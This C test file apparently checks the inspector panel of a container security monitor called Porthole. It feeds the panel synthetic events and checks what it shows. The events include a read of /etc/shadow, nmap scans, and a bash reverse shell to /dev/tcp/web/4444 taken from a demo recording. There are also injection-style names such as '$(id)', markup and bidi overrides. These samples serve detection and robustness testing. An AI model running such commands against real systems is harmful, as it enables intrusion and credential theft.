/* SPDX-License-Identifier: GPL-2.0-or-later */
#include <adwaita.h>
#include <string.h>

#include "core/text.h"
#include "ui/inspector-list.h"
#include "ui/inspector-row.h"
#include "ui/inspector.h"

#include "ui-check.h"

#define WEB    "1111111111111111111111111111111111111111111111111111111111111111"
#define DB     "2222222222222222222222222222222222222222222222222222222222222222"
#define TIME   G_GINT64_CONSTANT (1714557600000000001)
#define SECOND G_GINT64_CONSTANT (1000000000)

typedef struct
{
  PortholeWatch *watch;
  PortholeFilter *filter;
  PortholeSelection *selection;
  PortholeSession *session;
  PortholeInspector *inspector;
  GtkWidget *window;
  gint64 time;
} Fixture;

static gboolean
wake_cb (gpointer user_data)
{
  *(gboolean *)user_data = TRUE;

  return G_SOURCE_REMOVE;
}

static gboolean
count_frame_cb (GtkWidget *widget, GdkFrameClock *clock, gpointer user_data)
{
  return ++*(guint *)user_data < 4 ? G_SOURCE_CONTINUE : G_SOURCE_REMOVE;
}

/* until the inspector's pause is over, and what came of it is laid out and drawn */
static void
settle (Fixture *f)
{
  gboolean is_over = FALSE;
  guint n_frames = 0;

  g_timeout_add (400, wake_cb, &is_over);
  while (!is_over)
    g_main_context_iteration (NULL, TRUE);
  gtk_widget_add_tick_callback (f->window, count_frame_cb, &n_frames, NULL);
  UI_WAIT_FOR (n_frames >= 4);
  while (g_main_context_iteration (NULL, FALSE))
    ;
}

static PortholeContainer *
new_container (const char *id, const char *name, const char *address)
{
  PortholeContainer *container = porthole_container_new (id);
  const char *addresses[] = { address, NULL };

  container->time = TIME;
  container->name = g_strdup (name);
  container->image = g_strdup ("example/app:1");
  container->runtime = g_strdup ("docker");
  container->state = g_strdup ("running");
  container->addresses = g_strdupv ((GStrv)addresses);

  return container;
}

static void
set_up (Fixture *f, gconstpointer data)
{
  const char *dirs[] = { g_getenv ("PORTHOLE_TEST_RULES"), NULL };
  g_autoptr (GPtrArray) problems = g_ptr_array_new_with_free_func (g_free);
  g_autoptr (PortholeRules) rules = porthole_rules_load_dirs (dirs, problems);
  g_autoptr (PortholeTrust) trust = porthole_trust_new ();
  g_autoptr (PortholeContainer) web = new_container (WEB, "web", "198.51.100.2");
  g_autoptr (PortholeContainer) db = new_container (DB, "db", "198.51.100.3");

  f->time = TIME;
  f->watch = porthole_watch_new (rules, trust);
  f->filter = porthole_filter_new ();
  f->selection = porthole_selection_new ();
  f->session = porthole_watch_get_session (f->watch);
  f->inspector = g_object_new (PORTHOLE_TYPE_INSPECTOR, NULL);
  porthole_inspector_set_context (f->inspector, f->watch, f->filter, f->selection);

  porthole_session_begin (f->session, TIME, "desk", NULL, NULL);
  porthole_session_take_container (f->session, web);
  porthole_session_take_container (f->session, db);

  f->window = gtk_window_new ();
  gtk_window_set_default_size (GTK_WINDOW (f->window), 340, 800);
  gtk_window_set_child (GTK_WINDOW (f->window), GTK_WIDGET (f->inspector));
  gtk_window_present (GTK_WINDOW (f->window));
  while (!gtk_widget_get_mapped (GTK_WIDGET (f->inspector)))
    g_main_context_iteration (NULL, TRUE);
}

static void
tear_down (Fixture *f, gconstpointer data)
{
  g_object_add_weak_pointer (G_OBJECT (f->inspector), (gpointer *)&f->inspector);
  gtk_window_destroy (GTK_WINDOW (f->window));
  while (f->inspector != NULL)
    g_main_context_iteration (NULL, TRUE);
  g_clear_object (&f->selection);
  g_clear_object (&f->filter);
  g_clear_object (&f->watch);
}

static void
take (Fixture *f, PortholeEvent *event)
{
  g_autoptr (PortholeEvent) owned = event;

  f->time += SECOND / 100;
  event->time = f->time;
  if (event->container == NULL)
    event->container = g_strdup (WEB);
  if (event->kind == PORTHOLE_EVENT_CONNECT)
    event->first = event->last = f->time;
  porthole_session_take_event (f->session, event);
}

static PortholeEvent *
new_event (PortholeEventKind kind, guint32 pid, const char *exe, const char *args)
{
  PortholeEvent *event = porthole_event_new (kind);

  event->process = porthole_process_new ();
  event->process->pid = pid;
  event->process->pid_in_container = pid - 1000;
  event->process->parent = 1;
  event->process->exe = g_strdup (exe);
  event->process->comm = g_strdup (exe != NULL ? "comm" : NULL);
  if (args != NULL)
    event->process->args = g_strsplit (args, " ", -1);

  return event;
}

static void
run (Fixture *f, guint32 pid, const char *args)
{
  g_auto (GStrv) words = g_strsplit (args, " ", 2);

  take (f, new_event (PORTHOLE_EVENT_EXEC, pid, words[0], args));
}

static void
call (Fixture *f, const char *ip, guint16 port, const char *result)
{
  PortholeEvent *event = new_event (PORTHOLE_EVENT_CONNECT, 1010, "/usr/bin/curl", NULL);

  event->peer = porthole_peer_new (ip, port, "tcp");
  event->result = g_strdup (result);
  event->outcomes = 1;
  take (f, event);
}

static void
read_file (Fixture *f, const char *path, const char *result)
{
  PortholeEvent *event = new_event (PORTHOLE_EVENT_OPEN, 1011, "/usr/bin/cat", NULL);

  event->path = g_strdup (path);
  event->access = g_strsplit ("read", " ", -1);
  event->result = g_strdup (result);
  take (f, event);
}

static void
add_text (GtkWidget *widget, GString *text)
{
  if (!gtk_widget_get_visible (widget))
    return;
  if (GTK_IS_LABEL (widget))
    g_string_append_printf (text, "%s\n", gtk_label_get_text (GTK_LABEL (widget)));
  for (GtkWidget *child = gtk_widget_get_first_child (widget); child != NULL;
       child = gtk_widget_get_next_sibling (child))
    {
      if (!GTK_IS_STACK (widget) || gtk_stack_get_visible_child (GTK_STACK (widget)) == child)
        add_text (child, text);
    }
}

/* all that is to be read, a line for each label */
static char *
read_all (Fixture *f)
{
  GString *text = g_string_new ("\n");

  add_text (GTK_WIDGET (f->inspector), text);

  return g_string_free (text, FALSE);
}

static void
assert_reads (Fixture *f, const char *words)
{
  g_autofree char *text = read_all (f);

  if (strstr (text, words) == NULL)
    g_test_message ("%s", text);
  g_assert_nonnull (strstr (text, words));
}

static void
assert_reads_not (Fixture *f, const char *words)
{
  g_autofree char *text = read_all (f);

  if (strstr (text, words) != NULL)
    g_test_message ("%s", text);
  g_assert_null (strstr (text, words));
}

static void
add_rows (GtkWidget *widget, GPtrArray *rows)
{
  if (!gtk_widget_get_mapped (widget))
    return;
  if (PORTHOLE_IS_INSPECTOR_ROW (widget))
    g_ptr_array_add (rows, widget);
  for (GtkWidget *child = gtk_widget_get_first_child (widget); child != NULL;
       child = gtk_widget_get_next_sibling (child))
    add_rows (child, rows);
}

static GPtrArray *
list_rows (Fixture *f)
{
  GPtrArray *rows = g_ptr_array_new ();

  add_rows (GTK_WIDGET (f->inspector), rows);

  return rows;
}

static PortholeInspectorRow *
find_row (Fixture *f, const char *title)
{
  g_autoptr (GPtrArray) rows = list_rows (f);

  for (guint i = 0; i < rows->len; i++)
    {
      if (g_str_equal (porthole_inspector_row_get_item (rows->pdata[i])->title, title))
        return rows->pdata[i];
    }
  g_test_message ("no row says %s", title);
  g_assert_not_reached ();
}

static GtkWidget *
find_widget (GtkWidget *widget, GType type, const char *label)
{
  if (!gtk_widget_get_mapped (widget))
    return NULL;
  if (G_TYPE_CHECK_INSTANCE_TYPE (widget, type)
      && (label == NULL || g_strcmp0 (gtk_button_get_label (GTK_BUTTON (widget)), label) == 0))
    return widget;
  for (GtkWidget *child = gtk_widget_get_first_child (widget); child != NULL;
       child = gtk_widget_get_next_sibling (child))
    {
      GtkWidget *found = find_widget (child, type, label);

      if (found != NULL)
        return found;
    }

  return NULL;
}

static void
press (Fixture *f, const char *label)
{
  GtkWidget *button = find_widget (GTK_WIDGET (f->inspector), GTK_TYPE_BUTTON, label);

  g_assert_nonnull (button);
  g_signal_emit_by_name (button, "clicked");
}

static void
text_cb (GObject *source, GAsyncResult *result, gpointer user_data)
{
  g_autoptr (GError) error = NULL;

  *(char **)user_data = gdk_clipboard_read_text_finish (GDK_CLIPBOARD (source), result, &error);
  g_assert_no_error (error);
}

static char *
read_clipboard (Fixture *f)
{
  char *text = NULL;

  gdk_clipboard_read_text_async (gtk_widget_get_clipboard (f->window), NULL, text_cb, &text);
  while (text == NULL)
    g_main_context_iteration (NULL, TRUE);

  return text;
}

static void
take_picture (Fixture *f, const char *name)
{
  g_autofree char *whole = g_strconcat ("inspector-", name, NULL);

  settle (f);
  ui_picture (f->window, whole);
}

static void
test_empty (Fixture *f, gconstpointer data)
{
  assert_reads (f, "\nNothing selected\n");
  porthole_selection_set_node (f->selection, WEB);
  assert_reads_not (f, "Nothing selected");
  porthole_selection_clear (f->selection);
  assert_reads (f, "\nNothing selected\n");
  porthole_selection_set_node (f->selection, "peer:203.0.113.99");
  assert_reads (f, "No longer known");
}

static void
fill (Fixture *f)
{
  run (f, 1010, "/usr/bin/curl -s http://db");
  call (f, "198.51.100.3", 80, "established");
  call (f, "203.0.113.7", 23, "refused");
  read_file (f, "/etc/shadow", "ok");
}

static void
test_container (Fixture *f, gconstpointer data)
{
  fill (f);
  porthole_selection_set_node (f->selection, WEB);

  assert_reads (f, "\nweb\nexample/app:1\nrunning · under a minute\n");
  assert_reads (f, "\nWhy\n2\nPassword hashes read\n");
  assert_reads (f, "\ncat read /etc/shadow\nPassword hashes read\n");
  assert_reads (f, "\n/usr/bin/curl -s http://db\n");
  assert_reads (f, "\ndb\ntcp 80 · 1 established\n");
  assert_reads (f, "\n/etc/shadow\nread · ok · cat\n");
  assert_reads (f, "\nFull id\n" WEB "\n");
  /* what is not known is said so */
  assert_reads (f, "\nProject\nunknown\n");
  assert_reads (f, "\nPod\nunknown\n");
}

static void
test_claimed (Fixture *f, gconstpointer data)
{
  g_autoptr (PortholeContainer) fake = porthole_container_new ("claimed");

  fake->claimed = TRUE;
  fake->owner = 1000;
  fake->name = g_strdup ("web");
  porthole_session_take_container (f->session, fake);
  porthole_selection_set_node (f->selection, "claimed");
  assert_reads (f, "\nimage unknown\nstate unknown · age unknown · name only claimed\n");
  assert_reads (f, "only what user 1000 claims");
  assert_reads (f, "\nNothing was found.\n");
}

static void
test_peer (Fixture *f, gconstpointer data)
{
  fill (f);
  porthole_selection_set_node (f->selection, "peer:203.0.113.7");
  assert_reads (f, "\n203.0.113.7\n");
  assert_reads (f, "\nWho talks to it\nweb\ntcp 23 · 1 refused\n");
  assert_reads (f, "\nName\nunknown\n");
  assert_reads (f, "\nBlocked\nno\n");
  assert_reads (f, "T1021");
}

static void
test_edge (Fixture *f, gconstpointer data)
{
  const char *source, *target;

  fill (f);
  porthole_selection_set_edge (f->selection, WEB, "peer:203.0.113.7");
  assert_reads (f, "→");
  assert_reads (f, "\ntcp 23 · 1 connection\n");
  assert_reads (f, "\ncurl → tcp 23\n1 refused · 203.0.113.7\n");
  assert_reads (f, "\nBytes\nunknown\n");

  /* both ends lead on, and their rows to the edge again */
  porthole_inspector_row_activate (find_row (f, "203.0.113.7"));
  g_assert_true (porthole_selection_has_node (f->selection, "peer:203.0.113.7"));
  settle (f);
  porthole_inspector_row_activate (find_row (f, "web"));
  g_assert_true (porthole_selection_get_edge (f->selection, &source, &target));
  g_assert_cmpstr (source, ==, WEB);
  settle (f);
  porthole_inspector_row_activate (find_row (f, "web"));
  g_assert_true (porthole_selection_has_node (f->selection, WEB));
}

static void
test_event_and_finding (Fixture *f, gconstpointer data)
{
  PortholeInspectorRow *row;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  porthole_inspector_row_activate (find_row (f, "cat read /etc/shadow"));
  g_assert_cmpint (porthole_selection_get_kind (f->selection), ==, PORTHOLE_SELECTION_FINDING);
  assert_reads (f, "\nPassword hashes read\nFinding · ");
  assert_reads (f, "T1003.008 /etc/passwd and /etc/shadow: Takes the hashes");
  assert_reads (f, "\nRule\nshadow\n");
  settle (f);
  porthole_inspector_row_activate (find_row (f, "web"));
  settle (f);

  row = find_row (f, "/etc/shadow");
  porthole_inspector_row_activate (row);
  g_assert_true (porthole_inspector_row_get_open (row));
  assert_reads (f, "\nOpened by\ncat\n");
  settle (f);
  press (f, "Show event");
  g_assert_cmpint (porthole_selection_get_kind (f->selection), ==, PORTHOLE_SELECTION_EVENT);
  assert_reads (f, "\ncat read /etc/shadow\nopen · ");
  assert_reads (f, "\nAccess\nread\n");
  assert_reads (f, "\nRules\nshadow\n");
  assert_reads (f, "\nPid outside\n1011\n");
}

static void
test_nodes (Fixture *f, gconstpointer data)
{
  g_autoptr (GPtrArray) ids = g_ptr_array_new ();

  fill (f);
  g_ptr_array_add (ids, (gpointer)WEB);
  g_ptr_array_add (ids, (gpointer)DB);
  porthole_selection_set_nodes (f->selection, ids);
  assert_reads (f, "\n2 selected\n");
  assert_reads (f, "\nBetween them\n\xe2\x81\xa8web\xe2\x81\xa9 → \xe2\x81\xa8"
                   "db\xe2\x81\xa9\ntcp 80 · 1 established\n");
}

/* where nothing happens nothing waits to be done */
static void
test_rests (Fixture *f, gconstpointer data)
{
  GMainContext *context = g_main_context_default ();
  GPollFD fds[32];
  int priority, timeout;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  g_assert_true (g_main_context_acquire (context));
  g_main_context_prepare (context, &priority);
  g_main_context_query (context, priority, &timeout, fds, G_N_ELEMENTS (fds));
  g_main_context_release (context);
  g_assert_true (timeout < 0 || timeout > 120000);
}

/* what happens is read soon, what is open stays open, and nothing is looked at while paused */
static void
test_live (Fixture *f, gconstpointer data)
{
  PortholeInspectorRow *row;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  row = find_row (f, "/etc/shadow");
  porthole_inspector_row_activate (row);

  call (f, "198.51.100.3", 443, "refused");
  read_file (f, "/etc/shadow", "ok");
  assert_reads_not (f, "tcp 80, 443");
  settle (f);
  assert_reads (f, "\ndb\ntcp 80, 443 · 1 established, 1 refused\n");
  assert_reads (f, "\nCount\n2\n");
  g_assert_true (find_row (f, "/etc/shadow") == row);
  g_assert_true (porthole_inspector_row_get_open (row));

  porthole_watch_set_paused (f->watch, TRUE);
  call (f, "198.51.100.3", 8080, "refused");
  settle (f);
  assert_reads_not (f, "8080");
  porthole_watch_set_paused (f->watch, FALSE);
  assert_reads (f, "tcp 80, 443, 8080");

  /* another selection begins anew */
  porthole_selection_set_node (f->selection, DB);
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  g_assert_false (porthole_inspector_row_get_open (find_row (f, "/etc/shadow")));
}

static void
test_filter (Fixture *f, gconstpointer data)
{
  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  assert_reads (f, "\n203.0.113.7\n");
  porthole_filter_set_query (f->filter, "port:80");
  assert_reads_not (f, "\n203.0.113.7\n");
  assert_reads (f, "\n1 hidden by the filter\n");
  assert_reads (f, "\ndb\ntcp 80");
  porthole_filter_set_query (f->filter, "");
  assert_reads (f, "\n203.0.113.7\n");
}

static void
test_copy (Fixture *f, gconstpointer data)
{
  g_autofree char *row = NULL;
  g_autofree char *json = NULL;
  g_autofree char *edge = NULL;
  g_auto (GStrv) lines = NULL;
  GtkWidget *widget;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  widget = GTK_WIDGET (find_row (f, "/etc/shadow"));
  g_assert_true (gtk_widget_grab_focus (gtk_widget_get_parent (widget)));
  gtk_widget_activate_action (GTK_WIDGET (f->inspector), "inspector.copy-row", NULL);
  row = read_clipboard (f);
  g_assert_true (g_str_has_prefix (row, "/etc/shadow\nread · ok · cat\nPath: /etc/shadow\n"));

  gtk_widget_activate_action (GTK_WIDGET (f->inspector), "inspector.copy-json", NULL);
  json = read_clipboard (f);
  g_assert_true (g_str_has_prefix (json, "{\"type\":\"container\",\"time\":\""));
  g_assert_nonnull (strstr (json, "{\"type\":\"finding\""));
  lines = g_strsplit (g_strchomp (json), "\n", -1);
  g_assert_true (g_str_has_prefix (lines[g_strv_length (lines) - 1], "{\"nodes\":[{\"id\":\"" WEB));

  porthole_selection_set_edge (f->selection, WEB, DB);
  edge = porthole_inspector_dup_json (f->inspector);
  g_assert_nonnull (strstr (edge, "\"edges\":[{\"source\":\"" WEB "\",\"target\":\"" DB "\""));
}

/* Tab and the arrows come to every row and button, and Enter does what a click does */
static void
test_keyboard (Fixture *f, gconstpointer data)
{
  g_autoptr (GHashTable) seen = g_hash_table_new (NULL, NULL);
  g_autoptr (GPtrArray) rows = NULL;
  GtkWidget *focus;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  gtk_window_set_focus (GTK_WINDOW (f->window), NULL);
  while (gtk_widget_child_focus (f->window, GTK_DIR_TAB_FORWARD))
    {
      focus = gtk_root_get_focus (GTK_ROOT (f->window));
      if (!g_hash_table_add (seen, focus))
        break;
      while (gtk_widget_get_ancestor (focus, GTK_TYPE_LIST_BOX) != NULL
             && gtk_widget_child_focus (gtk_widget_get_ancestor (focus, GTK_TYPE_LIST_BOX),
                                        GTK_DIR_DOWN))
        {
          focus = gtk_root_get_focus (GTK_ROOT (f->window));
          if (!g_hash_table_add (seen, focus))
            break;
        }
    }
  rows = list_rows (f);
  g_assert_cmpuint (rows->len, >, 8);
  for (guint i = 0; i < rows->len; i++)
    g_assert_true (g_hash_table_contains (seen, gtk_widget_get_parent (rows->pdata[i])));

  focus = gtk_widget_get_parent (GTK_WIDGET (find_row (f, "/etc/shadow")));
  g_assert_true (gtk_widget_grab_focus (focus));
  g_assert_true (gtk_widget_activate (focus));
  assert_reads (f, "\nOpened by\ncat\n");
}

/* five rows, then all, and the same row stays where it was */
static void
test_show_all (Fixture *f, gconstpointer data)
{
  for (guint i = 1; i <= 7; i++)
    {
      g_autofree char *ip = g_strdup_printf ("203.0.113.%u", i);

      call (f, ip, 443, "established");
    }
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  assert_reads (f, "\n203.0.113.5\n");
  assert_reads_not (f, "\n203.0.113.6\n");
  press (f, "Show all 7");
  assert_reads (f, "\n203.0.113.7\n");
  press (f, "Show fewer");
  assert_reads_not (f, "\n203.0.113.6\n");
}

static void
count_cb (guint *n)
{
  ++*n;
}

/* of ten thousand, only what is seen becomes a row */
static void
test_many (Fixture *f, gconstpointer data)
{
  g_autoptr (GPtrArray) rows = NULL;
  g_autoptr (GPtrArray) later = NULL;
  PortholeInspectorList *list;
  PortholeInspectorModel *model;
  GtkAdjustment *adjustment;
  guint described;
  guint n_changes = 0;

  for (guint i = 0; i < 10000; i++)
    {
      g_autofree char *ip = g_strdup_printf ("203.0.%u.%u", i / 250, i % 250);

      call (f, ip, 443, "established");
    }
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  press (f, "Show all 10000");
  settle (f);
  take_picture (f, "list");
  list = PORTHOLE_INSPECTOR_LIST (
      find_widget (GTK_WIDGET (f->inspector), PORTHOLE_TYPE_INSPECTOR_LIST, NULL));
  g_assert_nonnull (list);
  assert_reads (f, "\nPeers\n10000\n");
  rows = list_rows (f);
  g_assert_cmpuint (rows->len, >, 5);
  g_assert_cmpuint (rows->len, <, 500);

  /* it stays where it was scrolled to, and another look makes no more than that anew */
  adjustment = gtk_scrolled_window_get_vadjustment (
      GTK_SCROLLED_WINDOW (find_widget (GTK_WIDGET (list), GTK_TYPE_SCROLLED_WINDOW, NULL)));
  gtk_adjustment_set_value (adjustment, 5000);
  settle (f);
  g_assert_cmpfloat (gtk_adjustment_get_value (adjustment), >, 4000);
  model = porthole_inspector_section_get_model (porthole_inspector_list_get_section (list));
  g_signal_connect_swapped (model, "items-changed", G_CALLBACK (count_cb), &n_changes);
  described = porthole_inspector_model_get_n_described (model);
  call (f, "203.0.0.1", 443, "established");
  settle (f);
  g_assert_cmpuint (n_changes, ==, 1); /* it is called twice as often, and has come to the top */
  call (f, "203.0.0.1", 443, "established");
  settle (f);
  g_assert_cmpuint (n_changes, ==, 1);
  call (f, "203.0.39.249", 443, "established");
  settle (f);
  g_assert_cmpuint (n_changes, ==, 2);
  g_assert_cmpuint (porthole_inspector_model_get_n_described (model) - described, <, 2000);
  g_assert_cmpfloat (gtk_adjustment_get_value (adjustment), >, 4000);
  later = list_rows (f);
  g_assert_cmpuint (later->len, <, 500);

  gtk_widget_activate_action (GTK_WIDGET (f->inspector), "inspector.back", NULL);
  settle (f);
  assert_reads (f, "\nIdentity\n");
}

static void
assert_inert (Fixture *f)
{
  g_autofree char *text = read_all (f);

  g_assert_true (g_utf8_validate (text, -1, NULL));
  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);

      /* of its own are the ends of lines above, and what isolates a name */
      g_assert_true (c == '\n' || c == 0x2068 || c == 0x2069 || porthole_text_is_inert (c));
    }
}

static void
select_all_kinds (Fixture *f)
{
  g_autoptr (GPtrArray) findings = g_ptr_array_ref (porthole_session_get_findings (f->session));
  g_autoptr (GPtrArray) edges = porthole_graph_get_edges (porthole_session_get_graph (f->session));

  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  assert_inert (f);
  for (guint i = 0; i < findings->len; i++)
    {
      porthole_selection_set_finding (f->selection, findings->pdata[i]);
      assert_inert (f);
    }
  for (guint i = 0; i < edges->len; i++)
    {
      const PortholeEdge *edge = edges->pdata[i];

      porthole_selection_set_edge (f->selection, edge->source->id, edge->target->id);
      assert_inert (f);
      porthole_selection_set_node (f->selection, edge->target->id);
      assert_inert (f);
    }
  settle (f);
}

static void
test_hostile (Fixture *f, gconstpointer data)
{
  static const char *const names[] = {
    "<b>bold</b>&amp;<span size='999999'>x",
    "\xe2\x80\xae"
    "gpj.exe\xe2\x80\xac\xe2\x81\xa6x",
    "a\nb\tc\x1b[31md\x07",
    "\\xff\\xfe\\\\",
    "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
    "%s%n%d {name} $(id)",
  };
  g_autofree char *huge = g_strnfill (65536, 'W');

  for (guint i = 0; i <= G_N_ELEMENTS (names); i++)
    {
      const char *name = i < G_N_ELEMENTS (names) ? names[i] : huge;
      g_autoptr (PortholeContainer) web = new_container (WEB, name, "198.51.100.2");
      g_autofree char *path = g_strconcat ("/", name, "/.ssh/id_rsa", NULL);
      g_autofree char *args = g_strdup_printf ("/usr/bin/nmap %s", name);
      PortholeEvent *event = new_event (PORTHOLE_EVENT_CONNECT, 1010, name, NULL);

      g_free (web->image);
      web->image = g_strdup (name);
      g_free (web->state);
      web->state = g_strdup (name);
      web->labels = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
      g_hash_table_insert (web->labels, g_strdup (name), g_strdup (name));
      porthole_session_take_container (f->session, web);
      take (f, new_event (PORTHOLE_EVENT_EXEC, 1020 + i, "/usr/bin/nmap", args));
      read_file (f, path, name);
      event->peer = porthole_peer_new ("203.0.113.9", 23, "tcp");
      event->peer->name = g_strdup (name);
      event->result = g_strdup ("refused");
      event->outcomes = 1;
      take (f, event);
      porthole_selection_set_edge (f->selection, WEB, "peer:203.0.113.9");
      assert_inert (f);
      porthole_selection_set_node (f->selection, WEB);
      assert_inert (f);
    }
  select_all_kinds (f);
  porthole_selection_set_node (f->selection, WEB);
  take_picture (f, "hostile");
  /* none makes the panel wider than it may be */
  g_assert_cmpint (gtk_widget_get_width (GTK_WIDGET (f->inspector)), ==, 340);
}

static void
test_hostile_text (Fixture *f, gconstpointer data)
{
  g_autoptr (PortholeContainer) web = new_container (WEB,
                                                     "<b>a</b>\n\xe2\x80\xae"
                                                     "b",
                                                     "198.51.100.2");

  porthole_session_take_container (f->session, web);
  porthole_selection_set_node (f->selection, WEB);
  assert_reads (f, "\n<b>a</b>\\x0a\\u202eb\n");
}

static void
test_widths (Fixture *f, gconstpointer data)
{
  int minimum;

  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  gtk_widget_measure (GTK_WIDGET (f->inspector), GTK_ORIENTATION_HORIZONTAL, -1, &minimum, NULL,
                      NULL, NULL);
  g_assert_cmpint (minimum, <=, 300);
  gtk_widget_set_direction (GTK_WIDGET (f->inspector), GTK_TEXT_DIR_RTL);
  settle (f);
  assert_reads (f, "\nweb\n");
}

static const char *
find_container (Fixture *f, const char *name)
{
  g_autoptr (GPtrArray) containers
      = porthole_session_get_containers (porthole_watch_get_session (f->watch));

  for (guint i = 0; i < containers->len; i++)
    {
      const PortholeContainer *container = containers->pdata[i];

      if (g_strcmp0 (container->name, name) == 0)
        return container->id;
    }
  g_assert_not_reached ();
}

/* each kind of selection, of the recording that is shipped */
static void
test_demo (Fixture *f, gconstpointer data)
{
  g_autoptr (GFile) file = g_file_new_for_path (g_getenv ("PORTHOLE_TEST_DEMO_RECORDING"));
  g_autoptr (GPtrArray) ids = g_ptr_array_new ();
  GPtrArray *findings;
  const char *attacker, *web;

  porthole_watch_replay (f->watch, file, PORTHOLE_REPLAY_FAST);
  while (porthole_watch_get_state (f->watch) != PORTHOLE_WATCH_REPLAYED)
    g_main_context_iteration (NULL, TRUE);
  attacker = find_container (f, "porthole-demo-attacker");
  web = find_container (f, "porthole-demo-web");
  take_picture (f, "empty");

  porthole_selection_set_node (f->selection, attacker);
  assert_reads (f, "\nShell with its input on a network socket\nT1059.004 · ");
  take_picture (f, "attacker");
  porthole_inspector_row_activate (find_row (f, "Shell with its input on a network socket"));
  assert_reads (f, "bash -c bash -i >& /dev/tcp/web/4444 0>&1 (pid ");
  take_picture (f, "why");
  porthole_selection_set_node (f->selection, web);
  assert_reads (f, "\nNetwork tool started\nT1095 · ");
  take_picture (f, "web");
  porthole_selection_set_node (f->selection, "peer:198.51.100.1");
  assert_reads (f, "\nporthole-demo-attacker\ntcp ");
  take_picture (f, "peer");
  porthole_selection_set_edge (f->selection, attacker, web);
  assert_reads (f, "\nnmap → tcp 22\n");
  take_picture (f, "edge");
  findings = porthole_session_get_findings (porthole_watch_get_session (f->watch));
  porthole_selection_set_finding (f->selection, findings->pdata[0]);
  assert_reads (f, "\nScan or attack tool started\nFinding · ");
  take_picture (f, "finding");
  porthole_inspector_row_activate (find_row (f, "porthole-demo-attacker"));
  settle (f);
  porthole_inspector_row_activate (find_row (f, "cat started"));
  assert_reads (f, "\ncat started\nexec · ");
  take_picture (f, "event");
  g_ptr_array_add (ids, (gpointer)attacker);
  g_ptr_array_add (ids, (gpointer)web);
  g_ptr_array_add (ids, (gpointer) "peer:198.51.100.1");
  porthole_selection_set_nodes (f->selection, ids);
  assert_reads (f, "\n3 selected\n");
  take_picture (f, "nodes");

  gtk_widget_set_default_direction (GTK_TEXT_DIR_RTL);
  porthole_selection_set_node (f->selection, web);
  take_picture (f, "rtl");
  porthole_selection_set_edge (f->selection, attacker, web);
  take_picture (f, "rtl-edge");
  gtk_widget_set_default_direction (GTK_TEXT_DIR_LTR);
  porthole_selection_set_node (f->selection, attacker);
  gtk_window_set_default_size (GTK_WINDOW (f->window), 300, 800);
  take_picture (f, "narrow");
}

/* a session that ends gives way to the next, of which nothing of the old one is told */
static void
test_new_session (Fixture *f, gconstpointer data)
{
  fill (f);
  porthole_selection_set_node (f->selection, WEB);
  settle (f);
  porthole_watch_clear (f->watch);
  settle (f);
  assert_reads_not (f, "/etc/shadow");
  assert_reads (f, "No longer known");
}

#define ADD(path, test) g_test_add ("/ui/inspector/" path, Fixture, NULL, set_up, test, tear_down)

int
main (int argc, char *argv[])
{
  ui_init (&argc, &argv);

  ADD ("empty", test_empty);
  ADD ("container", test_container);
  ADD ("claimed", test_claimed);
  ADD ("peer", test_peer);
  ADD ("edge", test_edge);
  ADD ("event-and-finding", test_event_and_finding);
  ADD ("nodes", test_nodes);
  ADD ("live", test_live);
  ADD ("rests", test_rests);
  ADD ("filter", test_filter);
  ADD ("copy", test_copy);
  ADD ("keyboard", test_keyboard);
  ADD ("show-all", test_show_all);
  ADD ("many", test_many);
  ADD ("hostile", test_hostile);
  ADD ("hostile-text", test_hostile_text);
  ADD ("widths", test_widths);
  ADD ("demo", test_demo);
  ADD ("new-session", test_new_session);

  return g_test_run ();
}
